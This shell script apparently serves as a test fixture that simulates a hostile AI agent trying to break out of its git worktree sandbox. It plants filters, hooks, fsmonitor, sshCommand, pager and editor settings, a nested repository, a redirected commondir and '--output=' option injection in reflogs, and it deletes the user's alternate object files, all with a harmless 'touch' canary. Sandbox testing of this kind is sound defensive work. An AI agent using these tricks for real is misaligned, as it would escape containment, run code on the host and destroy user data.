# What a hostile agent does in the sandbox of its worktree. $1: a file that only a program outside of it can write.
own=$(git rev-parse --absolute-git-dir)
tree=$(git rev-parse --show-toplevel)
mark="touch $1"

settings() {
    for name in x lfs; do
        for key in clean smudge process; do printf '[filter "%s"]\n\t%s = %s; cat\n' $name $key "$mark"; done
    done
    for key in fsmonitor sshCommand pager editor; do printf '[core]\n\t%s = %s\n' $key "$mark"; done
    printf '[core]\n\thooksPath = %s/hooks\n[diff]\n\texternal = %s\n\tsubmodule = diff\n' "$own" "$mark"
    printf '[diff "x"]\n\ttextconv = %s\n[hook "x"]\n\tcommand = %s\n\tevent = post-index-change\n' "$mark" "$mark"
}

echo honest >honest.txt && git add honest.txt && git commit -qm honest && git branch -m renamed && echo committed

# Places that it must not be able to change.
mv "$tree" "$tree.away"; mv "$tree/.git" "$tree/away"; rm -rf "$tree/.git"; echo x >"$tree/.git/config"
mkdir "$tree/../new"; mv "$own" "$own.away"; ln -s /tmp "$tree/../link"
mv "$tree/sub" "$tree/gone"; mkdir -p "$tree/sub/deep/.git"; mv "$tree/sub/deep" "$tree/sub/gone"
mkdir "$tree/sub/.git" && echo "ref: refs/heads/x" >"$tree/sub/.git/HEAD"

# Programs, in every place where git looks for them.
mkdir -p "$own/hooks" "$own/evil" "$own/info"
for hook in post-checkout post-index-change reference-transaction pre-commit pre-auto-gc; do
    printf '#!/bin/sh\n%s\n' "$mark" >"$own/hooks/$hook"; chmod +x "$own/hooks/$hook"
done
settings >>"$own/config"; settings >"$own/config.worktree"; settings >"$own/evil/config"
echo '* filter=x diff=x' | tee "$own/info/attributes" >"$tree/.gitattributes"
mkdir -p "$tree/.husky" && cp "$own"/hooks/* "$tree/.husky/"

# A nested repository, which git would look into if an index named it.
git init -q "$tree/evil" && (cd "$tree/evil" && echo x >x && git add x && git -c user.name=x -c user.email=x commit -qm x)
inner=$(git -C "$tree/evil" rev-parse HEAD)
settings >>"$tree/evil/.git/config"; echo '* filter=x diff=x' >"$tree/evil/.gitattributes"; echo y >"$tree/evil/x"
git -c core.fsmonitor= -c core.hooksPath=/dev/null update-index --add --cacheinfo "160000,$inner,evil"

# The objects of the user, files that never end, links, and options in the place of ids.
find "$(cat "$own/objects/info/alternates")" -type f -delete 2>/dev/null
echo "$own/evil" >"$own/commondir"
for log in HEAD refs/heads/renamed refs/stash; do
    mkdir -p "$(dirname "$own/logs/$log")"; echo "0 --output=$1 x <x> 1 +0000" >>"$own/logs/$log"
done
ln -s "$1" "$own/refs/heads/link"; ln -s /dev/zero "$own/refs/heads/zero"; mkfifo "$own/refs/heads/fifo"
ln -s "$1" "$own/index.lock"; mkfifo "$own/shallow"; ln -s /dev/zero "$own/MERGE_MSG"
echo changed >>"$tree/a"; sed -i s/x/y/ "$tree/sub/deep/b"
echo attacked
